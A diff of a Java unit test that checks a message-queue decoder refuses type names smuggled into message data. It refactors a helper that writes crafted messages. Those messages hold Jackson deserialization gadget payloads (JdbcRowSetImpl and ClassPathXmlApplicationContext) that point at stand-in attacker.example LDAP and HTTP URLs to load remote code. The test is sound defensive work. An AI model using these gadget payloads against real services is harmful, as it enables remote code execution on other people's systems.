@@ -1,14 +1,10 @@
 package io.cq.core.message;
 
 import com.fasterxml.jackson.annotation.JsonTypeInfo;
-import io.cq.core.ExcerptBytes;
 import io.cq.core.MappedQueue;
-import io.cq.core.WriteContext;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
-import tools.jackson.dataformat.cbor.CBORMapper;
 
-import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.List;
@@ -59,13 +55,13 @@ class GadgetRefusalTest {
         try (MappedQueue queue = MappedQueue.builder(dir).build()) {
             Payments writer = Messages.methodWriter(queue.acquireAppender(), Payments.class);
             writer.pay(new Card("4111"));
-            appendCrafted(queue, "pay", Map.of("@class", "com.sun.rowset.JdbcRowSetImpl",
+            CraftedMessages.append(queue, "pay", Map.of("@class", "com.sun.rowset.JdbcRowSetImpl",
                     "dataSourceName", "ldap://attacker.example/x", "autoCommit", true));
-            appendCrafted(queue, "pay",
+            CraftedMessages.append(queue, "pay",
                     Map.of("@class", "org.springframework.context.support.ClassPathXmlApplicationContext",
                     "configLocation", "http://attacker.example/beans.xml"));
             // With no @JsonTypeInfo on the parameter, a type name in the data is plain data.
-            appendCrafted(queue, "note", Map.of("@class", "com.sun.rowset.JdbcRowSetImpl"));
+            CraftedMessages.append(queue, "note", Map.of("@class", "com.sun.rowset.JdbcRowSetImpl"));
             writer.pay(new Cash(250));
 
             MethodReader reader = Messages.methodReader(queue.createTailer(), handler);
@@ -140,25 +136,13 @@ class GadgetRefusalTest {
             }
         };
         try (MappedQueue queue = MappedQueue.builder(dir).build()) {
-            appendCrafted(queue, "pay", Map.of("@class", Card.class.getName() + "<" + Tripwire.class.getName() + ">",
-                    "number", "4111"));
+            String genericId = Card.class.getName() + "<" + Tripwire.class.getName() + ">";
+            CraftedMessages.append(queue, "pay", Map.of("@class", genericId, "number", "4111"));
             MethodReader reader = Messages.methodReader(queue.createTailer(), handler);
             assertThatThrownBy(reader::readOne).isInstanceOf(MessageDecodingException.class)
                     .hasMessageContaining(Tripwire.class.getName()).hasMessageContaining("not allowed here");
         }
         assertThat(System.getProperty("cq.test.tripwire")).as("the named class was loaded").isNull();
         assertThat(seen).isEmpty();
-    }
-
-    /** A message excerpt written by hand, as an attacker with write access to the queue could. */
-    private static void appendCrafted(MappedQueue queue, String method, Map<String, Object> document) {
-        byte[] cbor = new CBORMapper().writeValueAsBytes(document);
-        byte[] name = method.getBytes(StandardCharsets.UTF_8);
-        try (WriteContext context = queue.acquireAppender().writingDocument()) {
-            ExcerptBytes bytes = context.bytes();
-            bytes.writeInt('c' | 'q' << 8 | 'm' << 16 | 1 << 24).writeByte((byte) 0);
-            bytes.writeByte((byte) name.length).writeBytes(name).writeByte((byte) 1);
-            bytes.writeByte((byte) 'O').writeInt(cbor.length).writeBytes(cbor);
-        }
     }
 }
